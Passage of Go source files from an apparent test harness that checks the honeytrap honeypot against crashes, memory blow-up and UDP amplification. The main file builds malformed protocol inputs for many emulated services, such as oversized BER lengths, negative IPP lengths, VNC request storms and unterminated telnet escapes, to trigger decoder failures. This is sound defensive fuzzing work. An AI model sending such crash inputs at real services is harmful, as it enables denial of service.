	d.Payload = append([]byte(nil), seg[d.DataOff:]...)
	if Sum16(pseudo(d.IPSrc, d.IPDst, 6, len(seg)), seg) != 0 {
		d.bad("TCP checksum does not verify (stored %#04x, segment %d bytes)", binary.BigEndian.Uint16(seg[16:18]), len(seg))
	}
	return d
}
