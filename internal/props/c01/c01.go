// Package c01: no client traffic to an emulated service can terminate the
// honeypot process. Monitors: child liveness + stderr classifier, echo probe
// after every scenario, idle memory sampler / resident-memory guard, race
// detector (map class only).
package c01

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"runtime/pprof"
	"strconv"
	"strings"
	"sync"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C01" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = (service, input bytes from grammar dialogue / truncation / mutation / raw class / protocol-client special, segmentation, K concurrent connections), generated from (seed,index); fixed boundary cases first. Non-trivial = the real service reacted (>=1 reply byte, reply datagram or captured event); distinct by (service, sha256(input), segmentation, K). Also: request storms (one message of the dialogue repeated 150-600 times), fixed boundary cases per service (decimal length fields, ftp data-connection commands with ill-formed or missing arguments, vnc update-request storms with supported and unsupported pixel formats, ssh channel storms by an authenticated client), and a health monitor of the service under test: the well-formed dialogue with the longest deterministic reply is repeated on a fresh connection from a fresh address after every 8th scenario and must not get a shorter reply than before the workload. Shell input of the authenticated ssh scenarios is drawn from commands, blank and whitespace-only lines, a 5000-byte line, control characters and a last line without newline; the ssh channel storm opens 150 further session channels. Fixed cases also cover: ipp attributes announcing a small negative length, snmp get-requests with one element declaring a length far beyond the datagram at every nesting depth with none/one/all enclosing structures flagged primitive, telnet and authenticated ssh shells sent key sequences that never end, an ssh shell sent 40 window-change requests. With every client gone, two windows of four memory samples one second apart must not both grow by more than 24 MiB. The child writes every scenario to disk before sending it (the witness of a death) and a heap profile when its memory guard trips. After an ftp scenario whose replies announced passive ports a peer connects to each of them once the control connection is gone."
}
func (prop) Assumptions() []string {
	return []string{
		"input size bound 64 KiB per connection, K <= 32 connections",
		"vm.overcommit_memory as found in this sandbox (decides whether a huge declared BER length is an unrecoverable out-of-memory fatal)",
		"services hosted through the real server.Run dispatcher over an in-memory listener (net.Pipe / DummyUDPConn); kernel TCP behaviour not exercised",
		"race reports are verdict-bearing only when a stack shows runtime map access on a honeytrap map",
	}
}

type params struct {
	Svc      int  `json:"svc"`
	Offset   int  `json:"offset"`
	ConcOnly bool `json:"conc_only,omitempty"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	svcs := gen.Services()
	var plan []core.Batch
	n, chunks, raceN := 220, 1, 30
	if tier == "thorough" {
		n, chunks, raceN = 1500, 4, 300
	}
	for i, s := range svcs {
		for c := 0; c < chunks; c++ {
			p, _ := json.Marshal(params{Svc: i, Offset: c * n})
			plan = append(plan, core.Batch{Name: s.Type + "/" + s.Net, N: n, Params: p, Timeout: 900})
		}
		p, _ := json.Marshal(params{Svc: i, Offset: 1000000, ConcOnly: true})
		plan = append(plan, core.Batch{Name: s.Type + "/" + s.Net + "/race", N: raceN, Params: p, Race: true, Timeout: 900})
	}
	return plan
}

// scenario is regenerated identically in child and driver.
type scenario struct {
	Kind  string   // fixed | lockstep | pipelined | truncated | mutated | raw | ssh | tls
	Steps [][]byte // messages (TCP: written in order; UDP: one datagram each)
	Seg   int      // segmentation kind for the joined stream (0 whole, 1 dribble, 2 multi, 3 single)
	K     int
	Sub   int // sub-seed for specials
	Force int // specials: >0 forces this case of the special scenario (fixed special cases)
}

func ippAttr(tag byte, name, val string) []byte {
	b := []byte{tag, byte(len(name) >> 8), byte(len(name))}
	b = append(b, name...)
	b = append(b, byte(len(val)>>8), byte(len(val)))
	return append(b, val...)
}

func fixedCases(s gen.Service) [][][]byte {
	line := func(l ...string) [][]byte {
		var o [][]byte
		for _, x := range l {
			o = append(o, []byte(x+"\r\n"))
		}
		return o
	}
	switch s.Type {
	case "ftp":
		return [][][]byte{
			line("USER anonymous", "PASS anonymous", "CWD /"),
			line("USER anonymous", "PASS anonymous", "CDUP"),
			line("USER anonymous", "PASS anonymous", "MKD a", "CWD a", "PWD", "CDUP", "PWD"),
			line("USER anonymous", "PASS anonymous", "FEAT", "FEAT"),
			line("CWD /"),
			// data-connection commands with ill-formed or missing arguments, and transfers without a data connection
			line("USER anonymous", "PASS anonymous", "PORT 1,2"),
			line("USER anonymous", "PASS anonymous", "PORT 1,2,3,4,5,x"),
			line("USER anonymous", "PASS anonymous", "EPRT |1|h"),
			line("USER anonymous", "PASS anonymous", "EPRT |1|127.0.0.1|"),
			line("USER anonymous", "PASS anonymous", "RETR x"),
			line("USER anonymous", "PASS anonymous", "LIST"),
			line("USER anonymous", "PASS anonymous", "STOR x"),
			line("USER anonymous", "PASS anonymous", "PASV", "PASV", "EPSV", "PORT 127,0,0,1,0,9"),
			line("USER anonymous", "PASS anonymous", "REST 99999999999999999999", "RETR x"),
		}
	case "ipp":
		mk := func(body []byte) [][]byte {
			return [][]byte{gen.HTTPRequest("POST", "/printers/x", [][2]string{{"Host", "p"}, {"Content-Type", "application/ipp"}}, body, false)}
		}
		hdr := []byte{1, 1, 0, 0x0b, 0, 0, 0, 1}
		cases := [][][]byte{
			mk(append(append([]byte{}, hdr...), 0x03)),
			mk(append([]byte{}, hdr...)),                                         // no groups, no end tag
			mk(append(append([]byte{}, hdr...), 0x01)),                           // group, no end tag
			mk(append(append([]byte{}, hdr...), 0x01, 0x22, 0, 1, 'f', 0, 1, 1)), // boolean as last attribute, no end tag
			mk(append(append([]byte{}, hdr...), 0x01, 0x22, 0, 1, 'f', 0, 1, 1, 0x03)),
			mk(hdr[:3]),
		}
		// a well-formed Get-Printer-Attributes request whose last keyword value announces a small negative length
		// (0xFFFF-k): a decoder that moves backwards by it lands on bytes it has already read
		for k := 0; k <= 12; k++ {
			b := append([]byte{}, hdr...)
			b = append(b, 0x01)
			b = append(b, ippAttr(0x47, "attributes-charset", "utf-8")...)
			b = append(b, ippAttr(0x48, "attributes-natural-language", "en")...)
			b = append(b, ippAttr(0x45, "printer-uri", "ipp://p/printers/x")...)
			b = append(b, ippAttr(0x44, "requested-attributes", "printer-state")...)
			b = append(b, 0x44, 0, 0, 0xff, byte(0xff-k))
			b = append(b, 0x03)
			cases = append(cases, mk(b))
			// the same in the name-length field
			c := append([]byte{}, b[:len(b)-6]...)
			c = append(c, 0x44, 0xff, byte(0xff-k), 0x03)
			cases = append(cases, mk(c))
		}
		// attributes with value syntaxes a decoder may not model (octetString, dateTime, out-of-band values,
		// textWithLanguage, a group delimiter inside a group), with length fields whose sum steps back onto the
		// attribute itself
		for _, tag := range []byte{0x30, 0x31, 0x10, 0x13, 0x35, 0x36, 0x09, 0x7f} {
			for _, l := range [][2]uint16{{0, 0xfffb}, {0xfffb, 0}, {0xfffd, 0xfffe}, {0, 0}, {1, 0xfffa}, {0xfff0, 0x000b}} {
				b := append([]byte{}, hdr...)
				b = append(b, 0x01, tag, byte(l[0]>>8), byte(l[0]))
				if l[0] == 1 {
					b = append(b, 'n')
				}
				b = append(b, byte(l[1]>>8), byte(l[1]), 0x03)
				cases = append(cases, mk(b))
			}
		}
		return cases
	case "ldap":
		return [][][]byte{
			{{0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00}},
			{{0x04, 0x84, 0x7f, 0xff, 0xff, 0xff}},                         // 2^31-1
			{{0x04, 0x85, 0x01, 0x00, 0x00, 0x00, 0x00}},                   // 2^32
			{{0x04, 0x88, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}}, // negative
			{{0x04, 0x88, 0x40, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00}}, // 2^62
			{{0x30, 0x80, 0x04, 0x86, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00}}, // 2^40 inside indefinite sequence
			{{0x04, 0x86, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00}},             // 2^40
		}
	case "vnc":
		spf0 := []byte{0, 0, 0, 0, 32, 24, 0, 0, 0, 255, 0, 255, 0, 255, 16, 8, 0, 0, 0, 0}
		upd := []byte{3, 0, 0, 0, 0, 0, 0, 10, 0, 10}
		return [][][]byte{
			{[]byte("RFB 003.008\n"), {1}, {1}, upd, upd},
			{[]byte("RFB 003.008\n"), {1}, {1}, spf0, upd, upd},
			{[]byte("RFB 003.008\n"), {1}, {1}, {0, 0, 0, 0, 8, 8, 0, 1, 0, 7, 0, 7, 0, 3, 0, 3, 6, 0, 0, 0}, upd, upd},
			// more update requests than any queue between the reader and the frame pusher holds
			{[]byte("RFB 003.008\n"), {1}, {1}, bytes.Repeat(upd, 300)},
			{[]byte("RFB 003.008\n"), {1}, {1}, spf0, bytes.Repeat(upd, 300)},
			{[]byte("RFB 003.008\n"), {1}, {1}, {0, 0, 0, 0, 24, 24, 0, 1, 0, 255, 0, 255, 0, 255, 16, 8, 0, 0, 0, 0}, bytes.Repeat(upd, 300)},
		}
	case "redis":
		out := [][][]byte{{[]byte("*0\r\n")}, {[]byte("*1\r\n$4\r\nPING\r\n")}, {[]byte("*1\r\n*0\r\n")}}
		for _, n := range gen.BoundaryNumbers { // declared element counts and bulk lengths
			out = append(out, [][]byte{[]byte("*" + n + "\r\n")}, [][]byte{[]byte("*1\r\n$" + n + "\r\nPING\r\n")})
		}
		return out
	case "memcached":
		var out [][][]byte
		for _, n := range gen.BoundaryNumbers {
			out = append(out, [][]byte{[]byte("set k 0 0 " + n + "\r\nabc\r\n"), []byte("get k\r\n")})
		}
		return out
	case "tftp":
		return [][][]byte{{gen.TFTPPacket(2, "f", "octet"), append([]byte{0, 3, 0, 1}, make([]byte, 512)...), {0, 3, 0, 2}}}
	case "smtp":
		out := [][][]byte{line("HELO x", "MAIL FROM:<a>", "BDAT"), line("EHLO x", "MAIL FROM:<a>", "RCPT TO:<b>", "DATA", "Subject: s", "", "b", ".", "QUIT")}
		for _, n := range gen.BoundaryNumbers {
			out = append(out, line("HELO x", "MAIL FROM:<a>", "BDAT "+n+" LAST", "x"))
		}
		return out
	case "adb":
		return [][][]byte{{[]byte("CN")}, {[]byte("CNXN")}}
	case "telnet":
		// key sequences that never end: an escape sequence without its final letter and a bracketed paste without its
		// end, both longer than any line-editor buffer (256 bytes in the common terminal code), after a login and
		// before one
		esc := append([]byte{0x1b, '['}, bytes.Repeat([]byte("1;"), 200)...)
		paste := append([]byte{0x1b, '[', '2', '0', '0', '~'}, bytes.Repeat([]byte{0x1b, '['}, 200)...)
		return [][][]byte{
			{[]byte("root\n"), []byte("pw\n"), esc},
			{esc},
			{[]byte("root\n"), []byte("pw\n"), []byte("ls\n"), paste},
			{[]byte("root\n"), []byte("pw\n"), bytes.Repeat([]byte{0x1b}, 600)},
			{[]byte("root\n"), []byte("pw\n"), append(bytes.Repeat([]byte{0xe2, 0x82}, 200), 0x1b)},
		}
	case "snmp":
		// a get-request in which one element declares a length far beyond the datagram, at every nesting depth
		// (message, PDU, variable list, variable), with none, one or all of the enclosing structures flagged as
		// primitive (a decoder that ignores the constructed bit still parses their content as elements)
		tlv := func(tag byte, content ...[]byte) []byte {
			c := bytes.Join(content, nil)
			return append([]byte{tag, byte(len(c))}, c...)
		}
		huge := [][]byte{{0x04, 0x85, 0x42, 0x6e, 0x51, 0xd8, 0x82}, {0x0f, 0x84, 0x7f, 0xff, 0xff, 0xf0}}
		oid := []byte{0x06, 0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00}
		var out [][][]byte
		for _, mask := range []int{0, 1, 2, 4, 8, 15} {
			tag := func(bit int, t byte) byte {
				if mask&bit != 0 {
					return t &^ 0x20
				}
				return t
			}
			for pos := 0; pos < 4; pos++ {
				for _, h := range huge {
					at := func(p int) []byte {
						if p == pos {
							return h
						}
						return nil
					}
					vb := tlv(tag(8, 0x30), at(3), oid, []byte{0x05, 0x00})
					vbl := tlv(tag(4, 0x30), at(2), vb)
					pdu := tlv(tag(2, 0xa0), at(1), []byte{0x02, 0x01, 0x01, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}, vbl)
					out = append(out, [][]byte{tlv(tag(1, 0x30), at(0), []byte{0x02, 0x01, 0x00, 0x04, 0x06, 'p', 'u', 'b', 'l', 'i', 'c'}, pdu)})
				}
			}
		}
		return out
	}
	return nil
}

func mkScenario(s gen.Service, seed int64, idx int, concOnly bool) scenario {
	fx := fixedCases(s)
	if !concOnly && idx < len(fx) {
		return scenario{Kind: "fixed", Steps: fx[idx], K: 1}
	}
	if !concOnly && s.Special == "ssh" && idx < len(fx)+fixedSpecials(s) {
		// fixed special cases: authenticated sessions with every accepted credential tried in turn
		if idx-len(fx) >= 4 {
			return scenario{Kind: "ssh", K: 1, Sub: 7700 + idx, Force: 8}
		}
		if idx-len(fx) >= 2 {
			return scenario{Kind: "ssh", K: 1, Sub: 7700 + idx, Force: 7}
		}
		return scenario{Kind: "ssh", K: 1, Sub: 7700 + idx, Force: 6}
	}
	r := core.NewRng(seed, "C01/"+s.Type+"/"+s.Net, idx)
	sc := scenario{K: 1, Sub: int(r.U64() & 0x7fffffff)}
	if concOnly {
		sc.K = r.PickI([]int{2, 4, 8, 32})
	} else if r.Chance(1, 6) {
		sc.K = r.PickI([]int{2, 8, 32})
	}
	kinds := []string{"lockstep", "lockstep", "pipelined", "truncated", "mutated", "mutated", "raw", "storm"}
	if s.Special != "" {
		kinds = append(kinds, s.Special, s.Special, s.Special)
	}
	sc.Kind = r.PickS(kinds)
	d := s.Dialogue(r)
	switch sc.Kind {
	case "lockstep":
		sc.Steps = d
	case "pipelined":
		if s.Net == "udp" {
			sc.Steps = d
		} else {
			sc.Steps = [][]byte{gen.Join(d)}
		}
		sc.Seg = r.Intn(4)
	case "truncated":
		j := gen.Join(d)
		if s.Net == "udp" {
			i := r.Intn(len(d))
			sc.Steps = [][]byte{d[i][:r.Intn(len(d[i])+1)]}
		} else {
			sc.Steps = [][]byte{j[:r.Intn(len(j)+1)]}
		}
		sc.Seg = r.Intn(4)
	case "mutated":
		if s.Net == "udp" {
			for _, x := range d {
				sc.Steps = append(sc.Steps, gen.Mutate(r, x))
			}
		} else {
			sc.Steps = [][]byte{gen.Mutate(r, gen.Join(d))}
		}
		sc.Seg = r.Intn(4)
	case "raw":
		sc.Steps = [][]byte{gen.Raw(r)}
		sc.Seg = r.Intn(3)
	case "storm":
		// one message of the dialogue repeated far more often than any queue inside a handler is long
		i := r.Intn(len(d))
		if len(d) > 1 && r.Chance(3, 4) {
			i = 1 + r.Intn(len(d)-1)
		}
		n := r.Range(150, 600)
		if l := len(d[i]); l > 0 && n*l > 128<<10 {
			n = (128 << 10) / l
		}
		if s.Net == "udp" {
			if n > 40 {
				n = 40
			}
			sc.Steps = append(sc.Steps, d[:i]...)
			for j := 0; j < n; j++ {
				sc.Steps = append(sc.Steps, d[i])
			}
		} else {
			sc.Steps = append(sc.Steps, d[:i]...)
			sc.Steps = append(sc.Steps, bytes.Repeat(d[i], n))
			sc.Steps = append(sc.Steps, d[i+1:]...)
		}
		sc.Seg = 0
	}
	if sc.Seg == 1 { // dribble only short streams
		t := 0
		for _, x := range sc.Steps {
			t += len(x)
		}
		if t > 400 {
			sc.Seg = 2
		}
	}
	return sc
}

func inputHash(sc scenario) string {
	h := sha256.New()
	for _, s := range sc.Steps {
		h.Write(s)
		h.Write([]byte{0xff, 0x00})
	}
	return hex.EncodeToString(h.Sum(nil))[:16]
}

type scnRec struct {
	Kind      string   `json:"kind"`
	K         int      `json:"K"`
	Seg       int      `json:"seg"`
	Bytes     int      `json:"bytes"`
	Hash      string   `json:"hash"`
	Reply     int      `json:"reply"`
	Events    int      `json:"events"`
	Recovered []string `json:"recovered,omitempty"`
	ProbeOK   bool     `json:"probe_ok"`
	Linger    int      `json:"linger"`
	Head      string   `json:"head,omitempty"`
}

func writePNG(path string) {
	im := image.NewRGBA(image.Rect(0, 0, 64, 48))
	for y := 0; y < 48; y++ {
		for x := 0; x < 64; x++ {
			im.Set(x, y, color.RGBA{uint8(x * 4), uint8(y * 5), 128, 255})
		}
	}
	f, err := os.Create(path)
	if err != nil {
		return
	}
	png.Encode(f, im)
	f.Close()
}

func config(s gen.Service, work string) string {
	return fmt.Sprintf(`
[listener]
type="lab"

[channel.cap0]
type="lab-capture"
id="cap0"

[[filter]]
channel=["cap0"]

[service.probe]
type="echo"

[service.sut]
type=%q
%s
[[port]]
port="tcp/7"
services=["probe"]

[[port]]
port="%s/%d"
services=["sut"]
`, s.Type, s.Extra(work), s.Net, s.Port)
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	s := gen.Services()[p.Svc]
	work := lab.WorkDir()
	os.MkdirAll(work+"/ftproot", 0755)
	writePNG(work + "/vnc.png")
	var curK int64 = -1
	var kmu sync.Mutex
	lab.StartMemGuard(3<<30, func(rss uint64) {
		kmu.Lock()
		k := curK
		kmu.Unlock()
		quiet := time.Since(lab.LastClientSend()).Milliseconds()
		if f, err := os.Create(filepath.Join(work, "heap.pprof")); err == nil { // who holds the memory: read by the judge
			pprof.Lookup("heap").WriteTo(f, 0)
			f.Close()
		}
		o.EmitX("memguard", map[string]interface{}{"k": k, "rss": rss, "quiet_ms": quiet, "samples": lab.RSSHistory()})
	})
	srv, err := lab.Start(config(s, work))
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	to := b.To
	if to == 0 {
		to = b.N
	}
	hl := newHealth(srv, s)
	o.EmitX("healthref", map[string]interface{}{"deterministic_reply_bytes": hl.L, "dialogue_steps": len(hl.Steps)})
	for k := b.From; k < to; k++ {
		lab.WaitUnpaused()
		sc := mkScenario(s, b.Seed, p.Offset+k, p.ConcOnly)
		kmu.Lock()
		curK = int64(k)
		kmu.Unlock()
		o.Begin(k)
		writeLastInput(work, k, sc) // on disk before the first byte is sent: the witness of a process death
		rec := runScenario(srv, s, sc, k, b.Verbose)
		o.EmitX("scn", rec)
		if k%8 == 7 || k == to-1 {
			if hr, ok := hl.check(srv, s, k); !ok {
				o.EmitX("health", hr)
			} else {
				o.EmitX("healthok", hr)
			}
		}
		o.End(k)
		lab.Events.Forget(lab.Events.Len()) // every scenario is judged on the events since its start: keep the store small
		if k%20 == 19 || k == to-1 {
			// memory that keeps growing with every client gone: two windows of four samples 150 ms apart, one
			// second between them; both must show heap and resident memory strictly increasing by more than
			// 24 MiB (a handler that spins on what it has already received)
			window := func() ([]lab.MemSample, bool) {
				ms := []lab.MemSample{lab.Mem(true)}
				grow := true
				for i := 1; i < 4; i++ {
					time.Sleep(150 * time.Millisecond)
					ms = append(ms, lab.Mem(false))
					if ms[i].Heap <= ms[i-1].Heap || ms[i].RSS <= ms[i-1].RSS {
						grow = false
						break
					}
				}
				return ms, grow && ms[len(ms)-1].Heap-ms[0].Heap > 24<<20
			}
			if w1, g1 := window(); g1 {
				time.Sleep(time.Second)
				if w2, g2 := window(); g2 {
					o.EmitX("idlegrow", map[string]interface{}{"k": k, "window1": w1, "window2": w2})
				}
			}
		}
		if k%40 == 39 {
			// idle memory samples (no client input in flight)
			var ms []lab.MemSample
			for i := 0; i < 3; i++ {
				time.Sleep(30 * time.Millisecond)
				ms = append(ms, lab.Mem(i == 0))
			}
			o.EmitX("idlemem", ms)
		}
	}
}

// writeLastInput stores the scenario about to be run (messages in hex, clipped to 16 KiB each).
func writeLastInput(work string, k int, sc scenario) {
	var steps []string
	for _, st := range sc.Steps {
		if len(st) > 16384 {
			st = st[:16384]
		}
		steps = append(steps, hex.EncodeToString(st))
	}
	jb, _ := json.Marshal(map[string]interface{}{"k": k, "kind": sc.Kind, "connections": sc.K, "segmentation": sc.Seg, "sub": sc.Sub, "messages_hex": steps})
	os.WriteFile(filepath.Join(work, "last_input.json"), jb, 0644)
}

func recoveredSig(c lab.Captured) string {
	st := lab.Str(c.Rec, "stacktrace")
	// innermost honeytrap frame below the panic
	idx := strings.Index(st, "panic(")
	if idx >= 0 {
		st = st[idx:]
	}
	for _, ln := range strings.Split(st, "\n") {
		ln = strings.TrimSpace(ln)
		if strings.HasPrefix(ln, "github.com/honeytrap/honeytrap/") && !strings.Contains(ln, "server.(*Honeytrap).handle") {
			if i := strings.LastIndex(ln, "("); i > 0 {
				ln = ln[:i]
			}
			return strings.TrimPrefix(ln, "github.com/honeytrap/honeytrap/")
		}
	}
	m := lab.Str(c.Rec, "message")
	if len(m) > 60 {
		m = m[:60]
	}
	return "msg:" + m
}

func runScenario(srv *lab.Server, s gen.Service, sc scenario, k int, verbose bool) scnRec {
	rec := scnRec{Kind: sc.Kind, K: sc.K, Seg: sc.Seg, Hash: inputHash(sc)}
	for _, st := range sc.Steps {
		rec.Bytes += len(st)
	}
	if len(sc.Steps) > 0 {
		h := sc.Steps[0]
		if len(h) > 48 {
			h = h[:48]
		}
		rec.Head = hex.EncodeToString(h)
	}
	ev0 := lab.Events.Len()
	var wg sync.WaitGroup
	var mu sync.Mutex
	for c := 0; c < sc.K; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			reply, linger := runConn(srv, s, sc, k, c)
			mu.Lock()
			rec.Reply += reply
			rec.Linger += linger
			mu.Unlock()
		}(c)
	}
	wg.Wait()
	lab.Events.Settle(2*time.Millisecond, 20*time.Millisecond)
	for _, c := range lab.Events.Since(ev0) {
		rec.Events++
		if lab.Str(c.Rec, "type") == "fatal" {
			rec.Recovered = append(rec.Recovered, recoveredSig(c))
		}
	}
	rec.ProbeOK = probe(srv, k) || probe(srv, k)
	return rec
}

func probe(srv *lab.Server, k int) bool {
	cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 7), lab.TCPAddr("203.0.113.250", 1024+k%60000))
	cl := lab.NewClient(cc)
	defer cl.Close()
	msg := []byte(fmt.Sprintf("probe-%d\n", k))
	if err := cl.Send(msg, 5*time.Second); err != nil {
		return false
	}
	return cl.WaitFor(func(b []byte) bool { return string(b) == string(msg) }, 5*time.Second)
}

func clientAddr(k, c int) (string, int) {
	return fmt.Sprintf("198.51.%d.%d", 100+(k/250)%100, 1+k%250), 2000 + c
}

var rePasv = regexp.MustCompile(`227 [^(]*\(\d+,\d+,\d+,\d+,(\d+),(\d+)\)`)

func runConn(srv *lab.Server, s gen.Service, sc scenario, k, c int) (reply, linger int) {
	ip, port := clientAddr(k, c)
	if s.Net == "udp" {
		for i, st := range sc.Steps {
			x := srv.L.SendUDP(lab.UDPAddr("10.0.0.1", s.Port), lab.UDPAddr(ip, port+i*64), st)
			// a datagram handler runs to completion on its own; give it a moment
			deadline := time.Now().Add(20 * time.Millisecond)
			for time.Now().Before(deadline) && x.Count() == 0 {
				time.Sleep(200 * time.Microsecond)
			}
			for _, r := range x.Snapshot() {
				reply += len(r)
			}
		}
		return
	}
	cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", s.Port), lab.TCPAddr(ip, port))
	switch sc.Kind {
	case "ssh":
		return sshSpecial(cc, s, sc, c), 0
	case "tls":
		return tlsSpecial(cc, s, sc, c), 0
	}
	cl := lab.NewClient(cc)
	idle := 60 * time.Millisecond
	for _, st := range sc.Steps {
		r := core.NewRng(int64(sc.Sub), "seg", c)
		if err := cl.SendCuts(st, gen.Cuts(r, len(st), sc.Seg), 2*time.Second); err != nil {
			break
		}
		if cl.WaitIdle(idle) == "closed" {
			break
		}
	}
	cl.WaitIdle(idle)
	reply = len(cl.Received())
	cl.Close()
	deadline := time.Now().Add(100 * time.Millisecond)
	for !cc.Srv.Closed() && time.Now().Before(deadline) {
		time.Sleep(500 * time.Microsecond)
	}
	if s.Type == "ftp" {
		// a peer that turns up on a passive data port after the control session is over (the listener waits for up
		// to 30 s): it connects, says nothing or a few bytes, and leaves
		for i, m := range rePasv.FindAllSubmatch(cl.Received(), 4) {
			p1, _ := strconv.Atoi(string(m[1]))
			p2, _ := strconv.Atoi(string(m[2]))
			if dc, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", p1*256+p2), 300*time.Millisecond); err == nil {
				if i%2 == 1 {
					dc.Write([]byte("late"))
				}
				time.Sleep(5 * time.Millisecond)
				dc.Close()
			}
		}
	}
	if !cc.Srv.Closed() {
		linger = 1
	}
	return
}

var _ = net.IPv4

// ---- exported workload (used by C05 and C09, which ride on the same generators) ----

// Workload hosts one service of the quantifier and runs C01 scenarios against it.
type Workload struct {
	Svc gen.Service
	Srv *lab.Server
}

// StartWorkload prepares the scratch files and starts the real server for service index i.
func StartWorkload(i int) (*Workload, error) {
	s := gen.Services()[i]
	work := lab.WorkDir()
	os.MkdirAll(work+"/ftproot", 0755)
	writePNG(work + "/vnc.png")
	srv, err := lab.Start(config(s, work))
	if err != nil {
		return nil, err
	}
	return &Workload{Svc: s, Srv: srv}, nil
}

// ScenarioInfo describes what a scenario did.
type ScenarioInfo struct {
	Kind   string
	K      int
	Bytes  int
	Reply  int
	Events int
	Linger int
	Addrs  []string // client ip:port pairs used
}

// Run executes scenario idx (same generator as C01) and returns what it did.
// FixedCount is the number of fixed (non-seeded) scenarios of the workload's service; Run serves them at
// indexes 0..FixedCount()-1.
func (w *Workload) FixedCount() int { return len(fixedCases(w.Svc)) + fixedSpecials(w.Svc) }

func fixedSpecials(s gen.Service) int {
	if s.Special == "ssh" {
		return 6
	}
	return 0
}

func (w *Workload) Run(seed int64, idx, k int, singleConn bool) ScenarioInfo {
	sc := mkScenario(w.Svc, seed, idx, false)
	if singleConn {
		sc.K = 1
	}
	rec := runScenario(w.Srv, w.Svc, sc, k, false)
	info := ScenarioInfo{Kind: rec.Kind, K: sc.K, Bytes: rec.Bytes, Reply: rec.Reply, Events: rec.Events, Linger: rec.Linger}
	for c := 0; c < sc.K; c++ {
		ip, port := clientAddr(k, c)
		n := 1
		if w.Svc.Net == "udp" {
			n = len(sc.Steps)
		}
		for i := 0; i < n; i++ {
			info.Addrs = append(info.Addrs, fmt.Sprintf("%s:%d", ip, port+i*64))
		}
	}
	return info
}
