package core

import (
	"bufio"
	"encoding/json"
	"os"
	"sync"
)

// TV is a type-tagged event value: T is the Go type, V the JSON rendering for
// scalars, H the hex form for strings and byte slices (so invalid UTF-8
// survives the log).
type TV struct {
	T string      `json:"T"`
	V interface{} `json:"V,omitempty"`
	H string      `json:"H,omitempty"`
}

// EvRec is one captured event.
type EvRec struct {
	Ch       string        `json:"ch"`
	Run      int           `json:"run,omitempty"`
	Seq      int           `json:"seq"`
	KV       map[string]TV `json:"kv"`
	JSONErr  string        `json:"json_err,omitempty"`
	JSONKeys []string      `json:"json_keys,omitempty"`
}

// Rec is one line of the observation log.
type Rec struct {
	T    string          `json:"t"`
	K    int             `json:"k"`
	C    int             `json:"c,omitempty"`
	Step int             `json:"step,omitempty"`
	Hex  string          `json:"hex,omitempty"`
	S    string          `json:"s,omitempty"`
	S2   string          `json:"s2,omitempty"`
	N    int64           `json:"n,omitempty"`
	Ev   *EvRec          `json:"ev,omitempty"`
	X    json.RawMessage `json:"x,omitempty"`
}

// Obs is the append-only observation log written by a child (one write(2)
// per record).
type Obs struct {
	mu sync.Mutex
	f  *os.File
	k  int
}

func OpenObs(path string) (*Obs, error) {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0644)
	if err != nil {
		return nil, err
	}
	return &Obs{f: f}, nil
}

// SetK sets the scenario index stamped on subsequent records.
func (o *Obs) SetK(k int) { o.mu.Lock(); o.k = k; o.mu.Unlock() }

func (o *Obs) Emit(r Rec) {
	o.mu.Lock()
	defer o.mu.Unlock()
	r.K = o.k
	b, err := json.Marshal(r)
	if err != nil {
		b, _ = json.Marshal(Rec{T: "logerr", K: o.k, S: err.Error()})
	}
	b = append(b, '\n')
	o.f.Write(b)
}

// EmitX emits a record with a property-specific payload.
func (o *Obs) EmitX(t string, x interface{}) {
	b, err := json.Marshal(x)
	if err != nil {
		o.Emit(Rec{T: "logerr", S: err.Error()})
		return
	}
	o.Emit(Rec{T: t, X: b})
}

// EmitXK is EmitX for a scenario other than the current one (scenarios that run concurrently).
func (o *Obs) EmitXK(t string, k int, x interface{}) {
	b, err := json.Marshal(x)
	if err != nil {
		return
	}
	rb, _ := json.Marshal(Rec{T: t, K: k, X: b})
	o.mu.Lock()
	o.f.Write(append(rb, '\n'))
	o.mu.Unlock()
}

func (o *Obs) Begin(k int) { o.SetK(k); o.Emit(Rec{T: "begin", K: k}) }
func (o *Obs) End(k int)   { o.Emit(Rec{T: "end", K: k}) }
func (o *Obs) Close()      { o.f.Close() }

// ReadObs parses an observation log; a torn last line is ignored.
func ReadObs(path string) ([]Rec, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var out []Rec
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 256<<20)
	for sc.Scan() {
		var r Rec
		if json.Unmarshal(sc.Bytes(), &r) != nil {
			continue
		}
		out = append(out, r)
	}
	return out, sc.Err()
}

// X decodes the property-specific payload of a record.
func (r Rec) XInto(v interface{}) error { return json.Unmarshal(r.X, v) }
