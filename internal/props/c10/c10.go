// Package c10: UDP services cannot be used as traffic amplifiers. Reply
// datagrams are captured by the datagram connection's reply function; the
// oracle counts them per source IP (<= 4) and checks that one source's
// allowance does not depend on other sources' traffic.
package c10

import (
	"encoding/json"
	"fmt"
	"sync"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type prop struct{}

